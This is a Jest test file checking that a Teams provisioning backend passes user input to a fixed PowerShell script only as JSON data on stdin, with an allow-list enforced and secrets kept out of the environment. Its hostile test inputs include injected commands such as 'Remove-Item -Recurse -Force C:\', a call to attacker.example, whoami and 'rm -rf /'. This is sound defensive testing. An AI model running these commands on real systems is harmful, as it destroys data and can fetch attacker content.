import { chmod, mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { spawnSync } from 'node:child_process';
import { DEMO } from '../../../src/backends/simulated/seed';
import { PowerShellError, PowerShellUnavailableError } from '../../../src/backends/microsoft/powershell/errors';
import { PowerShellRunner, asciiJson, withoutSecrets } from '../../../src/backends/microsoft/powershell/runner';
import { PWSH_ARGS, SCRIPT, WORKER_ARGS, WORKER_SCRIPT } from '../../../src/backends/microsoft/powershell/script';
import { DirectoryRefusal } from '../../../src/provisioning/result';
import { fakeJwt } from '../../fakes/credential';
import { FAKE_PWSH } from '../../fakes/microsoft365';
import { openOverFake, startFake, type OverFake } from './helpers';

/**
 * Teams PowerShell is reached through one fixed script; user input travels as JSON data on stdin and
 * never becomes part of a command string (STYLE.md, teams-apis.md §5.3).
 */

jest.setTimeout(60_000);

const HOSTILE = [
  `Evil'; Remove-Item -Recurse -Force C:\\ ; '`,
  'Name $(Invoke-WebRequest http://attacker.example) `whoami` ${env:PATH}',
  'Line one\nWrite-Host pwned\r\n"; exit 0; "',
  "O'Brien & Sons | Out-File /tmp/x; @(1)",
];

const tokens = { graph: async () => fakeJwt({ scp: 'x' }), teams: async () => fakeJwt({ scp: 'y' }) };

describe('hostile input through the Microsoft backend', () => {
  let env: OverFake;
  beforeEach(async () => {
    env = await openOverFake();
  });
  afterEach(() => env.close());

  it.each(HOSTILE)('passes the display name %j to pwsh only as data, byte for byte', async (displayName) => {
    const created = await env.sut.createAccount({ userPrincipalName: 'aa-hostile@contoso.com', displayName, accountType: 'autoAttendant' });
    await env.sut.updateAccount(created.id, { displayName: `${displayName} 2` });

    const calls = env.fake.pwshCalls;
    expect(calls.length).toBeGreaterThan(0);
    for (const call of calls) {
      // The command line is the same constant for every worker, and never carries a request value.
      expect(call.argv).toEqual([...WORKER_ARGS]);
      expect(call.mode).toBe('warm');
      expect(call.wellFormed).toBe(true);
    }
    expect(calls.find((c) => c.cmdlet === 'New-CsOnlineApplicationInstance')?.parameters).toEqual({
      UserPrincipalName: 'aa-hostile@contoso.com',
      ApplicationId: 'ce933385-9390-45d1-9512-c8d228074e07',
      DisplayName: displayName.trim(),
    });
    expect(calls.find((c) => c.cmdlet === 'Set-CsOnlineApplicationInstance')?.parameters).toEqual({ Identity: created.id, DisplayName: `${displayName} 2`.trim() });
    // What the tenant stored is the text itself, not something a shell made of it.
    expect((await env.sut.getAccount(created.id))?.displayName).toBe(`${displayName} 2`.trim());
  });

  it('passes a hostile username as data too, and the tenant refuses or stores it verbatim', async () => {
    const upn = "aa-$(whoami)';`n@contoso.com";
    const outcome = await env.sut.createAccount({ userPrincipalName: upn, displayName: 'x', accountType: 'callQueue' }).catch((e: unknown) => e);
    expect(outcome instanceof DirectoryRefusal || (outcome as { userPrincipalName?: string }).userPrincipalName === upn).toBe(true);
    const sent = env.fake.pwshCalls.filter((c) => c.cmdlet === 'New-CsOnlineApplicationInstance');
    expect(sent.map((c) => c.parameters.UserPrincipalName)).toEqual([upn]);
    expect(sent.every((c) => JSON.stringify(c.argv) === JSON.stringify(WORKER_ARGS))).toBe(true);
  });

  it('never sends a voice-app id it does not know to PowerShell', async () => {
    const before = env.fake.pwshCalls.length;
    await expect(env.sut.associate(DEMO.accounts.paris.id, "x'); Remove-CsAutoAttendant -Identity *; ('")).rejects.toMatchObject({ reason: 'VOICE_APP_NOT_FOUND' });
    expect(env.fake.pwshCalls.slice(before).map((c) => c.cmdlet)).not.toContain('New-CsOnlineApplicationInstanceAssociation');
  });

  it('sends non-ASCII names as escaped ASCII JSON that decodes to the same text', async () => {
    const displayName = 'Accueil Genève – 受付 🎧';
    await env.sut.createAccount({ userPrincipalName: 'aa-geneve@contoso.com', displayName, accountType: 'autoAttendant' });
    const call = env.fake.pwshCalls.find((c) => c.cmdlet === 'New-CsOnlineApplicationInstance');
    expect(call?.stdin).toMatch(/^[\x20-\x7e]*$/);
    expect(call?.parameters.DisplayName).toBe(displayName);
  });

  it('gives the workers their tokens on stdin (connect), never on the command line or in the environment', async () => {
    const [connect] = env.fake.pwshConnects;
    expect(connect?.graphToken).toMatch(/\./);
    expect(connect?.teamsToken).toMatch(/\./);
    expect(env.fake.pwshProcesses.length).toBeGreaterThan(0);
    for (const process of env.fake.pwshProcesses) {
      const given = [...process.argv, ...Object.keys(process.env), ...Object.values(process.env)].join('\n');
      expect(given).not.toContain(connect?.graphToken);
      expect(given).not.toContain(connect?.teamsToken);
    }
    // A cmdlet's request line carries no token: the session has them.
    for (const call of env.fake.pwshCalls) expect(call.stdin).not.toMatch(/Token/);
  });
});

describe('the one-shot runner (SWITCHBOARD_PWSH_MODE=oneshot)', () => {
  let env: OverFake;
  beforeEach(async () => {
    env = await openOverFake({ env: { SWITCHBOARD_PWSH_MODE: 'oneshot' } });
  });
  afterEach(() => env.close());

  it('starts one pwsh per cmdlet with the one-shot script, tokens on stdin', async () => {
    const created = await env.sut.createAccount({ userPrincipalName: 'aa-oneshot@contoso.com', displayName: 'One shot', accountType: 'autoAttendant' });
    expect(created.displayName).toBe('One shot');
    const calls = env.fake.pwshCalls;
    expect(calls.every((c) => c.mode === 'oneshot' && c.wellFormed && JSON.stringify(c.argv) === JSON.stringify(PWSH_ARGS))).toBe(true);
    expect(env.fake.pwshProcesses).toHaveLength(calls.length);
    const [call] = calls;
    const request = JSON.parse(call?.stdin ?? '{}') as { graphToken?: string; teamsToken?: string };
    expect(request.graphToken).toMatch(/\./);
    expect(call?.argv.join(' ')).not.toContain(request.graphToken);
  });
});

describe('the fixed script', () => {
  it.each([
    ['one-shot', SCRIPT],
    ['worker', WORKER_SCRIPT],
  ])('%s: splats allow-listed parameters and evaluates nothing it is given', (_name, script) => {
    expect(script).toContain('$output = @(& $name @parameters -ErrorAction Stop)');
    expect(script).toContain("if (-not $allowList.ContainsKey($name))");
    expect(script).toContain("if ($spec['parameters'] -cnotcontains $key)");
    expect(script).not.toMatch(/Invoke-Expression|iex |\[scriptblock\]::Create|Add-Type/i);
    expect(script).toContain("Connect-MicrosoftTeams -AccessTokens @([string] $request['graphToken'], [string] $request['teamsToken'])");
  });

  it('checks the allow-list before it imports, connects or runs anything', () => {
    expect(SCRIPT.indexOf('$call = Get-Allowed $request')).toBeLessThan(SCRIPT.indexOf('Import-Module MicrosoftTeams'));
    // The worker checks each request before it looks at its session.
    expect(WORKER_SCRIPT.indexOf('$call = Get-Allowed $request')).toBeLessThan(WORKER_SCRIPT.indexOf("throw [System.InvalidOperationException]::new('not connected')"));
  });

  it('is what pwsh receives, encoded once and for all', () => {
    expect(PWSH_ARGS.slice(0, 4)).toEqual(['-NoLogo', '-NoProfile', '-NonInteractive', '-EncodedCommand']);
    expect(Buffer.from(PWSH_ARGS[4] ?? '', 'base64').toString('utf16le')).toBe(SCRIPT);
    expect(WORKER_ARGS.slice(0, 4)).toEqual(['-NoLogo', '-NoProfile', '-NonInteractive', '-EncodedCommand']);
    expect(Buffer.from(WORKER_ARGS[4] ?? '', 'base64').toString('utf16le')).toBe(WORKER_SCRIPT);
  });
});

describe('the runner', () => {
  let dir: string;
  beforeAll(async () => {
    dir = await mkdtemp(path.join(os.tmpdir(), 'switchboard-pwsh-'));
  });
  afterAll(() => rm(dir, { recursive: true, force: true }));

  async function script(name: string, body: string): Promise<string> {
    const file = path.join(dir, name);
    await writeFile(file, `#!/usr/bin/env node\n${body}\n`);
    await chmod(file, 0o755);
    return file;
  }
  const runner = (pwshPath: string, timeoutMs = 10_000, env?: NodeJS.ProcessEnv) => new PowerShellRunner({ pwshPath, timeoutMs, tokens, ...(env ? { env } : {}) });

  it('refuses a cmdlet outside the allow-list and unknown parameters before starting anything', async () => {
    const { fake } = await startFake();
    try {
      const sut = runner(FAKE_PWSH, 10_000, fake.pwshEnv());
      await expect(sut.run('Get-CsOnlineApplicationInstance', { Identity: 'a', Filter: '*' } as never)).rejects.toThrow(/outside the allow-list/);
      await expect(sut.run('Invoke-Expression' as never, {} as never)).rejects.toThrow(/not in the allow-list/);
      await expect(sut.run('New-CsOnlineApplicationInstance', { UserPrincipalName: 'a@b', ApplicationId: 'not-a-guid', DisplayName: 'x' })).rejects.toThrow(/outside the allow-list/);
      expect(fake.pwshCalls).toEqual([]);
    } finally {
      await fake.close();
    }
  });

  it('reports a pwsh that cannot be started, saying what to install', async () => {
    const error = await runner(path.join(dir, 'no-such-pwsh')).run('Get-CsCallQueue', {}).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(PowerShellUnavailableError);
    expect(String(error)).toMatch(/install PowerShell 7 and the MicrosoftTeams module/);
  });

  it('kills a pwsh that does not finish in time', async () => {
    const hang = await script('hang.js', 'setTimeout(() => undefined, 60_000);');
    await expect(runner(hang, 300).run('Get-CsCallQueue', {})).rejects.toThrow(/did not finish within 0.3 s/);
  });

  it('treats output without a result line as a fault, with the end of stderr', async () => {
    const silent = await script('silent.js', "process.stdin.resume(); process.stdin.on('end', () => { process.stderr.write('Import-Module: boom'); process.exit(1); });");
    const error = await runner(silent).run('Get-CsCallQueue', {}).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(PowerShellError);
    expect(String(error)).toMatch(/without a result; stderr: Import-Module: boom/);
  });

  it('parses a cmdlet error into FullyQualifiedErrorId, message and category', async () => {
    const failing = await script(
      'failing.js',
      `process.stdin.resume(); process.stdin.on('end', () => { process.stdout.write('##SWITCHBOARD-RESULT##' + JSON.stringify({ ok: false, error: { fullyQualifiedErrorId: 'Forbidden,Microsoft.Teams.ConfigAPI', message: 'Access Denied.', category: 'PermissionDenied' } }) + '\\n'); process.exit(1); });`,
    );
    const error = await runner(failing).run('Get-CsOnlineApplicationInstance', {}).catch((e: unknown) => e);
    expect(error).toMatchObject({ name: 'PowerShellError', kind: 'Forbidden', psMessage: 'Access Denied.', accessDenied: true });
  });
});

describe('the fake pwsh itself', () => {
  it('refuses anything but a JSON request on stdin', () => {
    const result = spawnSync(FAKE_PWSH, [...PWSH_ARGS], { input: 'Get-CsCallQueue; rm -rf /', env: { ...process.env, FAKE_M365_URL: 'http://127.0.0.1:9' } });
    expect(result.status).toBe(2);
    expect(String(result.stderr)).toMatch(/stdin is not JSON/);
  });

  it('keeps secrets out of the environment pwsh inherits', () => {
    expect(withoutSecrets({ PATH: '/bin', MicrosoftAppPassword: 'p', SWITCHBOARD_M365_CLIENT_SECRET: 's', AZURE_TOKEN: 't', HOME: '/h' })).toEqual({ PATH: '/bin', HOME: '/h' });
  });

  it('escapes every non-ASCII character on the way in', () => {
    expect(asciiJson({ a: 'é😀' })).toBe('{"a":"\\u00e9\\ud83d\\ude00"}');
  });
});
